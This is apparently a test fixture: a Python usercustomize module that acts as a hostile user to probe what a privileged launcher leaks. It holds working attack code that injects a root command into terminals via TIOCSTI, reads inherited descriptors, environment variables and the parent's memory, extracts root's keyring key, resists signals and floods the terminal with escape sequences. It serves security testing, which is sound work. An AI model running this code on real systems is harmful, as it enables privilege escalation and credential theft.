"""Code of a hostile user, run by Python when the user's process starts: the user's `usercustomize`.

Takes what it can get from the process that started it, and writes a report into the user's home
folder.  Knows only the standard library.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import sys
import termios
from collections.abc import Callable
from pathlib import Path
from typing import Any

HOME = Path("/home/person")
REPORT = HOME / "stolen.json"
MODE = HOME / "mode"
INJECTED = "touch /root/injected\n"
NOISE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
KEY = b"zonedrive-test"
SESSION_KEYRING = -3
KEYCTL_READ = 11


def main() -> None:
    """Do what the file `mode` says."""
    if os.geteuid() == 0 or not MODE.exists():
        return
    mode, number = MODE.read_text().split()
    MODE.unlink()
    if mode == "steal":
        report(steal(int(number)))
        sys.stderr.write(f"{NOISE}{'filler ' * 200_000}\n{NOISE}\n")
        sys.stderr.flush()
    else:
        if mode == "stubborn":
            for each in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                signal.signal(each, signal.SIG_IGN)
        report({"pid": os.getpid()})
        while True:
            signal.pause()


def report(found: dict[str, Any]) -> None:
    """Write the report in one step."""
    new = REPORT.with_suffix(".new")
    new.write_text(json.dumps(found))
    new.rename(REPORT)


def steal(keyctl: int) -> dict[str, Any]:
    """Return everything that could be stolen; `keyctl` is the number of that system call."""
    descriptors = {}
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):  # the one of the listing
            descriptors[int(name)] = str(Path(f"/proc/self/fd/{name}").readlink())
    terminals = [number for number in descriptors if os.isatty(number)]
    opened = attempt(lambda: os.open("/dev/tty", os.O_RDWR))
    if opened is not None:
        terminals.append(opened)
    fields = Path("/proc/self/stat").read_text().rpartition(")")[2].split()
    limits = resource.getrlimit(resource.RLIMIT_CORE)
    return {
        "terminals": terminals,
        "injected": [number for number in (*terminals, 0, 1, 2) if inject(number)],
        "typed": [text for number in {*terminals, 0} if (text := read(number))],
        "controlling terminal": int(fields[4]),
        "session is its own": os.getsid(0) == os.getpid(),
        "descriptors": {n: path for n, path in descriptors.items() if n > 2},
        "content": [text for number in descriptors if number > 2 and (text := read(number))],
        "standard input": descriptors[0],
        "output is a pipe": [descriptors[n].startswith("pipe:") for n in (1, 2)],
        "folder": str(Path.cwd()),
        "variables": dict(os.environ),
        "groups": sorted({os.getegid(), *os.getgroups()}),
        "users": [*os.getresuid(), *os.getresgid()],
        "capabilities": capabilities(),
        "umask": attempt(lambda: os.umask(0o022)),
        "core": limits[1],
        "memory of the parent": attempt(lambda: os.open(f"/proc/{os.getppid()}/mem", os.O_RDONLY)),
        "files of the parent": attempt(lambda: os.listdir(f"/proc/{os.getppid()}/fd")),
        "key": key(keyctl),
        "pid": stay_behind(),
    }  # fmt: skip


def attempt(action: Callable[[], Any]) -> Any:
    """Return the result, or None if the call is refused."""
    try:
        return action()
    except OSError:
        return None


def inject(descriptor: int) -> bool:
    """Type a command at the terminal with TIOCSTI, if the kernel still supports it."""
    try:
        for char in INJECTED:
            fcntl.ioctl(descriptor, termios.TIOCSTI, char.encode())
    except OSError:
        return False
    return True


def read(descriptor: int) -> str:
    """Return the data that can be read without waiting."""
    os.set_blocking(descriptor, False)
    return (attempt(lambda: os.read(descriptor, 4096)) or b"").decode()


def capabilities() -> list[str]:
    """Return the sets of this process that are not empty, without the bounding set."""
    lines = Path("/proc/self/status").read_text().splitlines()
    words = [line.split() for line in lines if line.startswith("Cap") and "CapBnd" not in line]
    return [name for name, value in words if int(value, 16)]


def key(keyctl: int) -> str:
    """Return the content of root's key."""
    libc = ctypes.CDLL(None)
    found = libc.syscall(keyctl - 1, b"user", KEY, None, 0)  # request_key(2)
    if found < 0:
        return ""
    content = ctypes.create_string_buffer(100)
    libc.syscall(keyctl, KEYCTL_READ, found, content, len(content))
    return content.value.decode()


def stay_behind() -> int:
    """Leave a process that keeps all descriptors open; return its pid."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.setsid()
        os.write(writing, str(os.getpid()).encode())
        os.close(writing)
        while True:
            signal.pause()
    os.close(writing)
    found = int(os.read(reading, 20))
    os.close(reading)
    return found


main()
